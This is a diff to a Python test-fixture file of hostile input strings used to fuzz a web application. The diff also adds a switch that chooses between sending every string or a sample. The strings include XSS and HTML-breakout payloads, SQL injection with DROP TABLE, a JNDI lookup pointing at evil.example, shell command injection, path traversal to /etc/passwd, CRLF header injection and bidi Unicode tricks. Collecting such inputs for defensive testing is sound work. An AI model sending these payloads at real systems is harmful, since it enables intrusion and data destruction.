@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import os
+
 HOSTILE: dict[str, str] = {
     # The page
     "a script": "<script>alert(1)</script>",
     "out of an attribute": "\"><img src=x onerror=alert(1)> ' onmouseover='alert(1)",
-    "out of a text box": "</textarea></title></style></script><b>bold",
+    "out of a text box": "</textarea></title></style></script><marquee>bold",
     "out of a list": "</option></select></li></ul></fieldset></form><form action=//evil.example>",
     "a comment": "<!-- --> <!-- <![CDATA[ ]]> <?php ?> <!doctype html>",
     "entities": "&lt;b&gt; &amp;amp; &#x3c;i&#62; &nbsp; &notin &",
@@ -25,10 +27,10 @@ HOSTILE: dict[str, str] = {
     "sql": "'; DROP TABLE bank_question; -- \" OR 1=1 /* */ \\' %27",
     "a lookup": "${jndi:ldap://evil.example/a} $(id) `id` ; id | id && id",
     "a path": "../../../../etc/passwd ..\\..\\ /dev/null CON C:\\ %2e%2e%2f",
-    "headers": "x\r\nSet-Cookie: answers=evil\r\n\r\n<b>body</b>",
+    "headers": "x\r\nSet-Cookie: answers=evil\r\n\r\n<marquee>body",
     "header words": "x; secure, y=\"z\"; charset=utf-7, filename*=UTF-8''evil",
     # Letters
-    "turned round": "\u202eevil\u202c \u202dleft \u2066lone \u2067isolate \u2068first \u061c\u200f\u200e",
+    "turned round": "\u202eevil\u202c \u202dleft \u2066lone \u2067isolate \u2068first \u061c\u200f",
     "no width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u034fh\u180ei",
     "stacked accents": "Z" + "\u0300\u0301\u0302\u0303\u0316\u0317\u0323\u0336" * 8 + "algo",
     "smileys": "😀 👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇸 👍🏽 1️⃣",
@@ -62,3 +64,7 @@ BYTES: dict[str, bytes] = {
     "another alphabet": "Schmerz für Ängstliche".encode("latin-1"),
     "two bytes a letter": "pain".encode("utf-16"),
 }
+
+# `make fuzz` sends all of them everywhere; the tests send a few where each takes its time.
+ALL_OF_IT = int(os.environ.get("N", "0")) > 2_000
+FEW = HOSTILE if ALL_OF_IT else {name: HOSTILE[name] for name in list(HOSTILE)[::5]}
